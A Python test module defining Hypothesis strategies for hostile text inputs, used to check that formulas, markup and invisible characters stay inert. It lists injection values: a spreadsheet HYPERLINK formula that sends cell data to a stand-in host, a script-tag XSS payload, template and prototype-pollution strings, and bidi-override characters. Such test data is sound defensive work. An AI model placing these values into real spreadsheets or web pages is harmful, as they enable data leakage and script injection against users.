"""Texts that try to become something else: formulas, tags, ends of blocks, line ends, marks nobody sees."""

from __future__ import annotations

from hypothesis import strategies as st

HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1,"點我")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1＋1",
    "＋甲",
    "－乙",
    "＠丙",
    "\t=1",
    "\r\n=1",
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "]]><x>",
    "\"引號\" 'apostrophe' & <b>",
    "甲\r\n乙\n丙\r丁",
    "甲,乙；丙;丁",
    "甲\u2028乙\u2029丙",
    "甲\u202e乙\u2066丙",
    "表情🧑\u200d💻𠀀",
    "鈴\x07退\x08逃\x1b刪\x7f",
    "\ufffe\uffff",
    "__proto__",
    "{{7*7}}{% raw %}",
    "  前後有空白  ",
)
"""Everything here is plain words to a reader."""

hostile = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), min_size=1),
    st.builds("".join, st.lists(st.sampled_from(HOSTILE), min_size=2, max_size=3)),
)
"""One of them, several in a row, or any text but NUL."""
